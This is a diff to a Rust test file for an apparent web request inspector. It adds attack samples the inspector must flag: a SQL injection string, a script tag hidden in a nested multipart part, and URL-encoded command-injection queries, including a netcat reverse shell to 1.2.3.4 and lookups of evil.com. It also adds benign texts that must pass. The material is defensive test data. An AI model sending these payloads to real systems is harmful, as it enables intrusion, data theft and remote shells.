@@ -373,6 +373,14 @@ fn protobuf_and_grpc_strings_are_inspected() {
         assert!(post(ct, &attack).exceeded, "{ct}");
         assert!(!post(ct, &benign).exceeded, "{ct}");
     }
+    // A protobuf body that is not the wire format (another codec): its bytes as text.
+    assert!(
+        post(
+            "application/x-protobuf",
+            b"hello 1' UNION SELECT password FROM users--"
+        )
+        .exceeded
+    );
     // Not the wire format, or cut short at the inspection limit: read as text, so the
     // attack is still seen.
     let r = post(
@@ -416,6 +424,18 @@ fn every_multipart_kind_and_nested_parts_are_inspected() {
     );
     let r = post("multipart/form-data; boundary=b1", nested.as_bytes());
     assert!(r.exceeded, "{r:?}");
+    // A form field declared multipart whose inner part is a file: form parsers do not go
+    // into it and hand the application the whole text (black-box pass 6, N1).
+    let inner_file = "--CC\r\nContent-Disposition: attachment; filename=\"a.txt\"\r\nContent-Type: text/plain\r\n\r\n<script>alert(1)</script>\r\n--CC--\r\n";
+    let hidden = format!(
+        "{}--b1--\r\n",
+        part(
+            "Content-Disposition: form-data; name=\"q\"\r\nContent-Type: multipart/mixed; boundary=CC",
+            inner_file
+        )
+    );
+    let r = post("multipart/form-data; boundary=b1", hidden.as_bytes());
+    assert!(r.exceeded, "{r:?}");
     let json = format!(
         "{}--b1--\r\n",
         part(
@@ -451,6 +471,18 @@ fn line_breaks_sleep_and_netcat_are_command_separators() {
         "/a?c=x%20%26%26%20sleep%205",
         "/a?c=x%3Bsleep%24%7BIFS%7D5",
         "/a?c=x%20%7C%20nc%20evil%2080",
+        "/a?c=x%0Aenv%20id",
+        "/a?c=x%0Atimeout%205%20id",
+        "/a?c=x%0Abusybox%20sh",
+        "/a?c=x%0Abusybox%20nc%201.2.3.4%2080%20-e%20sh",
+        "/a?c=x%0Anc.openbsd%201.2.3.4%2080",
+        "/a?c=x%0Adig%20evil.com",
+        "/a?c=x%0Ahost%20evil.com",
+        "/a?c=x%0Aping6%20-c%205%20::1",
+        "/a?c=x%0Aps%20aux",
+        "/a?c=x%0Aprintenv",
+        "/a?c=x%0Axargs%20id",
+        "/a?c=x%0Asu%20root",
     ] {
         let r = get(attack);
         assert!(
@@ -463,6 +495,8 @@ fn line_breaks_sleep_and_netcat_are_command_separators() {
         "/a?text=Dear+team%2C%0Aid+like+to+know+more.%0AThanks",
         "/a?text=Shopping+list%3A%0Acat+food%0Atea",
         "/a?text=Let+it+sleep+for+a+while",
+        "/a?text=host%3A+example.com%0Aport%3A+8080",
+        "/a?text=Ask+the+host+about+the+time.",
     ] {
         let r = get(benign);
         assert!(!r.exceeded, "{benign}: {r:?}");
